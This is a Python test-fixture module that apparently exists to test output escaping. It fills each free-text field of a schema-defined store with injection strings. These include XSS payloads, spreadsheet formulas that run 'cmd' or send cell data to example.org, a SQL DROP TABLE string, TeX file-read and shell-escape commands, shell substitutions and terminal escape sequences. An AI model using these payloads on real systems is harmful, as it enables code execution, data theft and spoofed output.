"""Texts that mean harm, by what they mean it to, and a store that has one in every text that its schema leaves free."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING, Any

from tests.conftest import ROOT
from tests.stores import full

if TYPE_CHECKING:
    from collections.abc import Iterator

SHOWN = {
    "bold markup": "[bold red]loud[/bold red] [link=https://example.org]here[/link] [/] [@click=app.bell]x[/]",
    "markup that is not closed": "[on red",
    "pipes": "one | two || three | --- |",
    "backticks": "`code` ``` fence ``` ~~~",
    "script": "<script>alert(1)</script>",
    "end of a script": "</script><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "end of an attribute": "\" onmouseover=\"alert(1)\" x='",
    "end of an attribute in single quotes": "' onfocus='alert(1)' autofocus='",
    "end of a style": "</style><style>*{display:none}</style>",
    "end of a title": "</title></head><body onload=alert(1)>",
    "comment": "<!-- x --><!--> --!><![CDATA[ x ]]>",
    "frame": "<iframe src=javascript:alert(1)></iframe><base href=https://example.org/>",
    "forwarding": '<meta http-equiv=refresh content="0;url=https://example.org/">',
    "vector image": "<svg/onload=alert(1)><use href=https://example.org/x.svg#a />",
    "entities": "&lt;script&gt; &#60;b&#62; &amp;amp; &nbsp;",
    "template": "{{ 7 * 7 }} {% raw %} {# x #} ${7*7} #{7*7}",
    "link that acts": "[here](javascript:alert(1)) <javascript:alert(1)> [x]: javascript:alert(1)",
    "picture of Markdown": "![x](https://example.org/x.png) ![x][y]",
    "footnote": "[^1] [^1]: a note of somebody else",
    "address": "https://example.org/ www.example.org mailto:a@example.org",
    "heading": "# a heading",
    "underlined": "=== ---",
    "rule": "---",
    "list": "- [x] done",
    "numbered": "1) first",
    "quotation": "> said",
    "emphasis": "_under_ *star* ~~strike~~ ^up^ ~down~ :warning: @someone #12",
    "definition": ": a definition {.class #id onclick=alert(1)}",
    "formula": "=1+1",
    "formula that runs": "=cmd|'/c calc'!A1",
    "formula that sends": '=HYPERLINK("https://example.org/?"&A1,"here")',
    "formula with a plus": "+1+1",
    "formula with a minus": "-1+1",
    "formula with an at": "@SUM(1+1)",
    "formula behind a quote": "'=1+1",
    "formula behind a comma": 'x",=1+1,"',
    "formula behind a semicolon": "x;=1+1",
    "formula of full width": "＝1+1",
    "sign in front of a bracket": "-(1+1)",
    "number of a phone": "+1 (555) 01-23",
    "bare number": "-1.5",
    "exponent": "1E5",
    "date in disguise": "1-2",
    "braces": "{one} } two { three",
    "entry": "@article{x, title = {y}} % z",
    "commands of TeX": r"\input{/etc/passwd} \write18{id} $x^2$ a_b & c # d ~ \\",
    "accents of TeX": r"\'e \"{o} {\bf x}",
    "context": '{"@context": "https://example.org/", "@id": "x", "@type": "@id"}',
    "workflow command": "::error file=x,line=1::told by somebody else",
    "workflow command with line ends": "%0A::set-output name=x::y%0D%25",
    "shell": '$(id) `id` ; id | id & id > x "$HOME" \\',
    "format": "%s %n %(x)s {0} {x!r} {}",
    "statement of SQL": "'); DROP TABLE claims; --",
    "look of a NUL": r"\0 \x00 \u0000 ␀",
    "look of an escape": r"\e[31m \033[31m \x1b[31m ␛[31m ^[[31m",
    "look of YAML": "*a &b !c {d: e} # f",
    "look of nothing": "null",
    "one word without end": "x" * 399,
    "a wide word without end": "語" * 300,
    "a letter under many marks": "e" + "\u0335" * 120,
    "letters that join": "نص عربي עברית हिन्दी ไทย 👩\u200d👩\u200d👧 🏴\U000e0067\U000e0062\U000e007f",
    "order turned round": "abc\u202edcba\u202c \u2066x\u2069 \u200fy\u061c",
    "nothing to see": "a\u200bb\u2060c\u00ade\u3164f",
    "tags": "a" + "".join(chr(0xE0000 + ord(char)) for char in "hidden"),
    "private use": "a\ue000b\U0010fffd",
    "tab at the start": "\t=1+1",
    "two lines": "one\ntwo\n\n# three\n\n    four",
    "formula on a second line": "one\n=1+1",
    "workflow command on a second line": "one\n::error::told by somebody else",
}  # fmt: skip
"""What some store might hold."""

REFUSED = {
    "colour": "\x1b[31mred\x1b[0m",
    "cleared screen": "\x1b[2J\x1b[H",
    "title of the window": "\x1b]0;owned\x07",
    "link of a terminal": "\x1b]8;;https://example.org\x1b\\here\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;aGk=\x07",
    "answer of the terminal": '\x1b[6n\x1bP$q"p\x1b\\\x1b[c',
    "C1": "\x9b31mred\x9d0;title\x9c\x90x\x9c",
    "bell": "a\x07b",
    "backspace": "secret\x08\x08\x08\x08\x08\x08public",
    "delete": "a\x7fb",
    "NUL": "a\0b",
    "shift": "a\x0eb\x0fc",
    "return at the start": "\r=1+1",
    "return": "seen\runseen",
    "form feed": "a\x0cb\x0bc",
    "byte-order mark": "a\ufeffb",
    "next line": "a\x85b\u2028c\u2029d",
}
"""What no store may hold."""

_SCHEMA = json.loads((ROOT / "schemas" / "store.schema.json").read_text(encoding="utf-8"))


def places() -> set[str]:
    """Return the fields in which the schema takes any text, each with the kind of record that it stands in."""
    return set(_free_fields("store", _SCHEMA["properties"]["store"])).union(
        *(_free_fields(name, node) for name, node in _SCHEMA["$defs"].items())
    )


def _free_fields(kind: str, node: Any) -> Iterator[str]:
    for owner, variant in _variants(kind, node):
        for name, value in variant.get("properties", {}).items():
            if "properties" in value:
                yield from _free_fields(name, value)
            elif any(_is_free(one) for _, one in _variants(name, value.get("additionalProperties") or value)):
                yield f"{owner}.{name}"


def _variants(kind: str, node: Any) -> Iterator[tuple[str, Any]]:
    """Yield all that a schema allows in one place, each with the name of the definition that it stands in."""
    if "$ref" in node:
        name = node["$ref"].removeprefix("#/$defs/")
        yield from _variants(name, _SCHEMA["$defs"][name])
        return
    yield kind, node
    for part in (*node.get("oneOf", ()), *(node[word] for word in ("then", "else") if word in node)):
        yield from _variants(kind, part)


def _is_free(node: Any) -> bool:
    return bool(node.get("pattern") == "\\S")


def hostile(text: str) -> dict[str, Any]:
    """Return a store with a text in every field that takes any, and with addresses that mean harm."""
    filled: dict[str, Any] = _filled(_SCHEMA, complete(), text, "store", set())
    return filled


_FURTHER: dict[str, dict[str, Any]] = {
    "sources": {"label": "x"},
    "claims": {"voice": "x", "short": "x", "in_fact": "x", "exceptions": {"side": "x"}},
    "contradictions": {"short": "x"},
    "topics": {"question": "x", "answer": "x", "asked_as": ["x"]},
    "omissions": {
        "short": "x",
        "limits": "x",
        "asked_as": ["x"],
        "absent": ["x"],
        "bounds": [{"said": "x", "values": ["x"], "others": ["y"], "phrases": ["x #"]}],
    },
    "notices": {"asked_as": ["x"]},  # no phrase twice in a list
    "vocabulary": {"phrases": ["x"]},
    "measures": {"question": "x", "heading": "x", "definition": "x"},
    "interventions": {"short": "x"},
    "populations": {"short": "x"},
}
"""What every record of a list gets."""


def complete() -> dict[str, Any]:
    """Return the full store with the few fields that it leaves empty."""
    whole = full()
    whole["store"]["publisher"] = "x"
    document, _, study = whole["sources"][:3]
    document.update(
        file="=1+1 $(id) <b>.txt", url="https://example.org/'onclick='alert(1)'//`|[x](y){z}\\%0A::error::x"
    )
    study.update(population="x", intervention="x", comparator="x", both="x", outcome="x", note="x")
    study["cite"].update(
        number="x",
        publisher="x",
        DOI='10.1000/x"><script>alert(1)</script>{}\\',
        URL="https://example.org/'onclick='alert(1)'//`|[x](y){z}\\%0A::error::x",
    )
    for result in study["results"]:
        result.update(timepoint="x", outcome="x", scale="x", given="x")
    for claim in whole["claims"]:
        claim["scope"] = {**claim.get("scope", {}), "outcome": "x", "timepoint": "x"}
        claim["wording"] = [{"stands": "x", "read": "x", "sure": "likely"}]
    for topic in whole["topics"]:
        topic["bottom_line"] = {"text": "x", "rests_on": ["relapse-mean-19-days"]}
    whole["contradictions"][1]["resolution"] = "x"
    whole["types"] = [{"id": "craft", "name": "x"}]
    whole["statistics"] = [{"id": "share", "name": "x"}]
    whole["reasons"] = [{"id": "caption", "name": "x"}]
    whole["units"] = [{"id": "{cup}", "name": "x", "plural": "x", "dimension": "count"}]
    for claim in whole["claims"]:
        for evidence in claim.get("evidence", ()):
            evidence["quote"] = "x"
    for name, further in _FURTHER.items():
        for one in whole[name]:
            one.update(further)
    for side in (side for one in whole["contradictions"] for side in one["sides"]):
        side["short"] = "x"
    return whole


_PHRASE = _SCHEMA["$defs"]["phrase"]["pattern"]


def _as_phrase(text: str) -> str:
    """Return as much of a text as a list of phrases takes: the beginning, without quotation marks and braces."""
    return re.sub(r'["{}]', "", text).lstrip(" *\t\r\n")[:80].rstrip() or "x"


def filled_places() -> set[str]:
    """Return the fields that `hostile` fills, named as `places` names them."""
    seen: set[str] = set()
    _filled(_SCHEMA, complete(), "x", "store", seen)
    return seen


def _is_of_kind(node: Any, value: Any) -> bool:
    """Whether a schema is meant for a record: a document and a study stand in one list."""
    kind = node.get("properties", {}).get("kind", {})
    is_optional = "kind" not in node.get("required", ())
    return (is_optional and "kind" not in value) or value.get("kind") in kind.get(
        "enum", [kind.get("const", value.get("kind"))]
    )


def _filled(node: Any, value: Any, text: str, place: str, seen: set[str]) -> Any:
    """Return a value with a text in every place of it that the schema leaves free, and note these places."""
    variants = list(_variants(place.rpartition(".")[2], node))
    if isinstance(value, str):
        free = [variant for _, variant in variants if _is_free(variant)]
        if not free:
            return _as_phrase(text) if any(variant.get("pattern") == _PHRASE for _, variant in variants) else value
        seen.add(place)
        return text[: free[0]["maxLength"]]
    if isinstance(value, list):
        part: Any = next((variant["items"] for _, variant in variants if variant.get("items")), {})
        return [_filled(part, one, text, place, seen) for one in value]
    if isinstance(value, dict):
        known = {
            name: (kind, one)
            for kind, variant in variants
            if _is_of_kind(variant, value)
            for name, one in variant.get("properties", {}).items()
        }
        open_ended = next((one["additionalProperties"] for _, one in variants if one.get("additionalProperties")), None)
        if open_ended:
            return {name: _filled(open_ended, part, text, place, seen) for name, part in value.items()}
        parts = {name: known.get(name, ("", {})) for name in value}
        return {name: _filled(part, value[name], text, f"{kind}.{name}", seen) for name, (kind, part) in parts.items()}
    return value
